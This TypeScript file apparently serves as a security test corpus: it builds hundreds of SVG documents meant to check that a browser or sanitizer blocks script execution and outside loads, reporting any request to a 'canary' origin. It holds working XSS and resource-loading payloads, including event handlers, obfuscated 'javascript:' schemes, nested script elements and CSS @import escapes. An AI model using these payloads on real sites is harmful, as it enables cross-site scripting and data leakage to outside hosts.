/** SVG documents that try to run a script or to load something, for a browser to open. */

export interface SvgPayload {
  /** What it tries, for the report of a failure. */
  name: string
  document: string
}

const EVENTS = 'load begin click mouseover mousemove mousedown mouseup focusin pointerdown pointermove'
const SHAPES = [
  'rect width="200" height="200"',
  'g tabindex="0"',
  'path d="M0 0H200V200H0Z"',
  'use href="#box"',
]

const JAVASCRIPT = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java&#10;script:',
  'java&#x9;script:',
  '&#106;avascript:',
  'javascript&#58;',
  '&#1;javascript:',
]

/**
 * At least 200 documents.
 * @param canary origin that must hear nothing
 * @param run script that marks the document and calls the canary; without `"`, `<` and `&`
 */
export function svgPayloads(canary: string, run: string): SvgPayload[] {
  const payloads: SvgPayload[] = []
  const head = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
  const box = '<defs><rect id="box" width="200" height="200"/></defs>'
  const add = (name: string, inside: string, root = ''): void => {
    const document = `<svg ${head} width="200" height="200" ${root}>${box}${inside}</svg>`
    payloads.push({ name, document })
  }
  const html = (inside: string): string =>
    `<foreignObject width="200" height="200"><body xmlns="http://www.w3.org/1999/xhtml">${inside}</body></foreignObject>`

  for (const event of EVENTS.split(' ')) {
    add(`svg on${event}`, '', `on${event}="${run}"`)
    for (const shape of SHAPES) {
      const name = shape.split(' ', 1)[0]
      const inside = name === 'g' ? '<use href="#box"/>' : ''
      add(`${name} on${event}`, `<${shape} on${event}="${run}">${inside}</${name}>`)
    }
  }
  for (const name of [
    'image href="data:image/png;base64,AA=="',
    'style',
    'script',
    'animate attributeName="x" dur="1ms"',
  ]) {
    for (const event of ['load', 'error', 'begin', 'end']) {
      add(`${name} on${event}`, `<${name} on${event}="${run}"/>`)
    }
  }
  for (const scheme of JAVASCRIPT) {
    const target = `${scheme}${run}`
    add(`a ${scheme}`, `<a href="${target}"><use href="#box"/></a>`)
    add(`a xlink ${scheme}`, `<a xlink:href="${target}"><use href="#box"/></a>`)
    add(`set href ${scheme}`, `<a><set attributeName="href" to="${target}"/><use href="#box"/></a>`)
    add(
      `animate xlink:href ${scheme}`,
      `<a><animate attributeName="xlink:href" values="${target};${target}" dur="1s"/><use href="#box"/></a>`,
    )
    add(`use ${scheme}`, `<use href="${target}"/>`)
    add(`iframe ${scheme}`, html(`<iframe src="${target}"/>`))
  }
  for (const [name, inside] of scripts(canary, run)) add(name, inside)
  for (const inside of loaders(canary)) {
    add(inside.slice(0, 60), inside)
    add(`html ${inside.slice(0, 60)}`, html(inside))
  }
  for (const css of styles(canary)) {
    add(`style ${css.slice(0, 60)}`, `<style>${css}</style><g class="x"><use href="#box"/></g><text>a</text>`)
  }
  for (const key of ['fill', 'stroke', 'mask', 'filter', 'clip-path', 'marker-end', 'cursor']) {
    for (const value of [`url(${canary}/${key}.svg#a)`, `u\\72l('${canary}/${key}.svg#a')`]) {
      add(`${key}="${value}"`, `<path d="M0 0L9 9" ${key}="${value}"/>`)
      add(`style ${key}: ${value}`, `<path d="M0 0L9 9" style="${key}:${value}"/>`)
    }
  }
  const whole = (document: string): void => void payloads.push({ name: document.slice(0, 80), document })
  whole(`<?xml-stylesheet href="${canary}/pi.css" type="text/css"?><svg ${head}><rect/></svg>`)
  whole(`<?xml-stylesheet href="${canary}/pi.xsl" type="text/xsl"?><svg ${head}><rect/></svg>`)
  whole(`<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${run}</s:script></s:svg>`)
  whole(`<svg ${head} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${run}</h:script></svg>`)
  whole(`<svg ${head} xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x" onerror="${run}"/></svg>`)
  whole(`<svg ${head} xml:base="${canary}/"><image href="based.png"/><use href="based.svg#a"/></svg>`)
  return payloads
}

function scripts(canary: string, run: string): [name: string, inside: string][] {
  return [
    ['script', `<script>${run}</script>`],
    ['script in CDATA', `<script><![CDATA[${run}]]></script>`],
    ['script by its type', `<script type="text/ecmascript">${run}</script>`],
    ['script as a module', `<script type="module">${run}</script>`],
    ['script from data:', `<script href="data:text/javascript,${encodeURIComponent(run)}"/>`],
    ['script from data: by xlink', `<script xlink:href="data:text/javascript,${encodeURIComponent(run)}"/>`],
    ['script from elsewhere', `<script href="${canary}/script.js"/>`],
    ['script from elsewhere by xlink', `<script xlink:href="${canary}/script.js"/>`],
    ['script of HTML', `<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`],
    ['script in a group', `<g><g><script>${run}</script></g></g>`],
    ['script in a definition', `<defs><script>${run}</script></defs>`],
    ['script in metadata', `<metadata><script>${run}</script></metadata>`],
    ['script in a title', `<title><script>${run}</script></title>`],
    ['script in a symbol', `<symbol id="s"><script>${run}</script></symbol><use href="#s"/>`],
    ['script in a pattern', `<pattern id="p"><script>${run}</script></pattern>`],
    ['script in a switch', `<switch><script>${run}</script></switch>`],
    ['script in a link', `<a href="#x"><script>${run}</script></a>`],
    ['script in a text', `<text><tspan><script>${run}</script></tspan></text>`],
    ['script in another svg', `<svg><script>${run}</script></svg>`],
    [
      'use of a script from data:',
      `<use href="data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>1</script></svg>')}#x"/>`,
    ],
  ]
}

function loaders(canary: string): string[] {
  const elements = [
    ['image', 'href'],
    ['image', 'xlink:href'],
    ['use', 'href'],
    ['use', 'xlink:href'],
    ['feImage', 'href'],
    ['textPath', 'href'],
    ['linearGradient', 'href'],
    ['pattern', 'xlink:href'],
    ['mpath', 'href'],
    ['iframe', 'src'],
    ['img', 'src'],
    ['embed', 'src'],
    ['object', 'data'],
    ['video', 'src'],
    ['video', 'poster'],
    ['audio', 'src'],
    ['source', 'src'],
  ] as const
  return [
    ...elements.map(([name, key]) => `<${name} ${key}="${canary}/${name}" width="9" height="9"/>`),
    `<link rel="stylesheet" href="${canary}/link.css"/>`,
    `<link rel="preload" as="image" href="${canary}/preload.png"/>`,
    `<link rel="prefetch" href="${canary}/prefetch"/>`,
    `<link rel="dns-prefetch" href="${canary}"/>`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh"/>`,
    `<base href="${canary}/"/><img src="based.png"/>`,
    `<form action="${canary}/form"><input type="image" src="${canary}/input.png"/></form>`,
    `<div style="background:url(${canary}/div.png)">x</div>`,
  ]
}

function styles(canary: string): string[] {
  return [
    `@import '${canary}/a.css';`,
    `@import url(${canary}/b.css);`,
    `@im\\70ort '${canary}/c.css';`,
    `@font-face{font-family:f;src:url(${canary}/f.woff)}text{font-family:f}`,
    `.x{fill:url(${canary}/d.svg#a)}`,
    `.x{cursor:url(${canary}/e.cur),auto}`,
    `.x{mask:url(${canary}/g.svg#m)}`,
    `.x{mask-image:image-set('${canary}/h.png' 1x)}`,
    `.x{filter:url(${canary}/i.svg#f)}`,
    `svg{background:url(${canary}/j.png)}`,
    `svg{background-image:-webkit-image-set(url(${canary}/k.png) 1x)}`,
    `svg{--u:url(${canary}/l.png);background:var(--u)}`,
    `text::before{content:url(${canary}/m.png)}`,
  ]
}
